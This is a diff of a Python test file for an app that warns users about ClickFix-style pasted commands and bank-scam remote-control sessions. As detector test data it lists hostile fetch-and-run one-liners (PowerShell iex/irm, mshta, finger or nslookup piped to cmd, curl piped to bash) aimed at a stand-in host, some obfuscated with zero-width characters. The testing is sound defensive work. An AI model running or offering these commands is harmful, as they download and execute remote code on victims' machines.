@@ -10,54 +10,137 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from app.companion import dangers
-from app.companion.dangers import Danger, shipped_dangers
+from app.companion.dangers import LIES_BACK, RESTS, Danger, Dangers, shipped_dangers
 from app.settings.settings import Warnings
+from tests.bounded import bounded
 
-COPIED = tomllib.loads(Path(__file__).with_name("clickfix.toml").read_text(encoding="utf-8"))
-BANK, OTHER_BANK = "さくら銀行 ログイン - Chromium", "みどり信用金庫 振込"
-PAGES = (
-    BANK,
-    OTHER_BANK,
-    "きょうの天気",
-    "YouTube",
-    "迷惑メールの見分け方 - 町内会",
-    "受信トレイ (3) - Gmail",
-    "新しいタブ",
-    "",
+COPIED, TITLES = (
+    tomllib.loads(Path(__file__).with_name(f"{name}.toml").read_text(encoding="utf-8"))
+    for name in ("clickfix", "titles")
 )
+BANK, OTHER_BANK = "さくら銀行 ログイン - Chromium", "みどり信用金庫 振込"
+PAGES = (BANK, OTHER_BANK, "きょうの天気", "")
 TEXTS = ("", BANK, "まごの写真です", "https://www.example.jp/a?b=c", "090-1234-5678", "XK4F-99AB-77CD-12EF")
+USUAL = (
+    *("powershell iex(irm a.example/x)", "irm https://a.example/x|iex", "msiexec /i https://a.example/x.msi /qn"),
+    *("conhost --headless powershell irm a.example", "finger user@a.example | cmd", "nslookup -q=txt a.example | cmd"),
+    *(r"rundll32 \\host\share,Entry", "powershell -W 1 -Enc SQBFAFgAIAAoAE4AZQB3AA==", "m\u200bshta https://a.example"),
+    *(f"{' ' * 2_000}mshta https://a.example", "\u200b" * 3_000 + "mshta https://a.example"),
+    "curl a.example/x | bash # https://get.docker.com",
+)
+"""What others than the lists' authors saw, or hide by."""
+
+ORDINARY = (
+    "curl -fsSL https://get.docker.com | bash",
+    "curl -LsSf https://astral.sh/uv/install.sh | sh",
+    "ipconfig /all",
+)
 RUN = "ファイル名を指定して実行"
 OTHERS = (("explorer", RUN), ("explorer", "ドキュメント"), ("powershell", BANK), ("notepad", BANK))
 windows = st.sampled_from([*(("chrome", title) for title in PAGES), *OTHERS])
+
+MEGABYTE = 1_000_000
 
 
 def test_of_386_commands_12_are_missed_and_of_350_harmless_texts_one_is_taken_for_one() -> None:
     judge = shipped_dangers(Warnings.ALL)
     assert (len(COPIED["malicious"]), len(COPIED["benign"])) == (386, 350)
     assert [text for text in COPIED["malicious"] if not judge.is_command(text)] == COPIED["missed"]
-    assert [text for text in (*COPIED["benign"], *TEXTS) if judge.is_command(text)] == COPIED["taken"]
+    assert [text for text in (*COPIED["benign"], *TEXTS, *ORDINARY) if judge.is_command(text)] == COPIED["taken"]
+    assert [text for text in USUAL if not judge.is_command(text)] == []
 
 
-@pytest.mark.parametrize("operated", [True, False])
+def test_pages_of_banks_are_known_by_their_titles_and_others_that_talk_of_money_are_not() -> None:
+    judge = shipped_dangers(Warnings.ALL)
+    assert len(TITLES["banks"]) + len(TITLES["harmless"]) >= 270
+    assert [title for title in TITLES["banks"] if not judge.is_bank(title)] == []
+    assert [title for title in TITLES["harmless"] if judge.is_bank(title)] == []
+
+
+HOSTILE = (
+    "curlhttp://;",
+    "base64-d|",
+    "a\u200b\u2060\ufeff",
+    "curl ",
+    "rundll32 temp",
+    "mshta a-",
+    "1.1.1.",
+    "ﷺ",
+    " ",
+    "#c:\\",
+)
+
+
+@pytest.mark.parametrize("piece", HOSTILE)
+def test_no_text_of_a_page_keeps_it_busy(piece: str) -> None:
+    judge, text = shipped_dangers(Warnings.ALL), piece * (MEGABYTE // len(piece))
+    with bounded(10):  # what is not linear takes minutes
+        judge.is_command(text)
+        judge.is_bank(text)
+
+
+@given(text=st.text())
+def test_whatever_is_written_there_it_is_judged(text: str) -> None:
+    judge = shipped_dangers(Warnings.ALL)
+    judge.is_command(text)
+    assert judge.judge(text, text) in Danger
+
+
+class Day:
+    """One on which time passes as told, and remote-control programs come and go."""
+
+    def __init__(self, patch: pytest.MonkeyPatch, wanted: Warnings = Warnings.ALL) -> None:
+        self.now, self.connected = 0.0, frozenset({7})
+        patch.setattr(dangers, "_connected", lambda: self.connected)
+        judge = shipped_dangers(wanted)
+        self.judge = Dangers(judge._table, wanted, lambda: self.now)
+
+    def front(self, title: str = BANK, program: str = "chrome") -> Danger:
+        return self.judge.judge(program, title)
+
+
+@pytest.fixture
+def day(monkeypatch: pytest.MonkeyPatch) -> Day:
+    return Day(monkeypatch)
+
+
+def test_a_word_once_for_each_session_whatever_the_titles_and_not_soon_after_the_guide_was_closed(day: Day) -> None:
+    assert [day.front(title) for title in (BANK, OTHER_BANK, "", BANK)] == [Danger.BANK, *[Danger.NONE] * 3]
+    day.judge.rest()
+    day.connected = frozenset()
+    assert day.front() is Danger.NONE
+    day.connected = frozenset({8})
+    assert day.front() is Danger.NONE, "she has just heard it"
+    day.now = RESTS
+    assert day.front() is Danger.BANK, "another one, later"
+
+
+def test_a_menu_or_a_notice_between_browser_and_console_hides_nothing(day: Day) -> None:
+    day.front("きょうの天気")
+    day.front("スタート", "searchhost")
+    day.now = LIES_BACK
+    assert day.front("", "powershell") is Danger.PASTE
+    assert day.front("", "powershell") is Danger.NONE, "asked once"
+    day.front("きょうの天気")
+    day.now = 2 * LIES_BACK + 1
+    assert day.front("", "powershell") is Danger.NONE
+
+
 @pytest.mark.parametrize("wanted", [Warnings.ALL, Warnings.BANK, Warnings.PASTE])
 @given(fronts=st.lists(windows, max_size=12))
-def test_a_word_only_for_what_is_wanted_and_once_for_each_page(
-    fronts: list[tuple[str, str]], wanted: Warnings, operated: bool
-) -> None:
+def test_a_word_only_for_what_is_wanted(fronts: list[tuple[str, str]], wanted: Warnings) -> None:
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(dangers, "_is_operated", lambda: operated)
-        judge = shipped_dangers(wanted)
-        told, before = "", ""
+        day, is_told, has_browser = Day(patch, wanted), False, False
         for program, title in fronts:
-            is_bank = program == "chrome" and title in (BANK, OTHER_BANK) and title != told
+            is_bank = program == "chrome" and title in (BANK, OTHER_BANK) and not is_told
             opens = program == "powershell" or title == RUN
             expected = Danger.NONE
-            if is_bank and operated and wanted is not Warnings.PASTE:
-                expected, told = Danger.BANK, title
-            elif opens and before == "chrome" and wanted is not Warnings.BANK:
-                expected = Danger.PASTE
-            assert judge.judge(program, title) is expected
-            before = program
+            if is_bank and wanted is not Warnings.PASTE:
+                expected, is_told = Danger.BANK, True
+            elif opens and has_browser and wanted is not Warnings.BANK:
+                expected, has_browser = Danger.PASTE, False
+            assert day.front(title, program) is expected
+            has_browser |= program == "chrome"
 
 
 def test_no_word_where_the_family_wants_none_or_the_table_is_damaged(
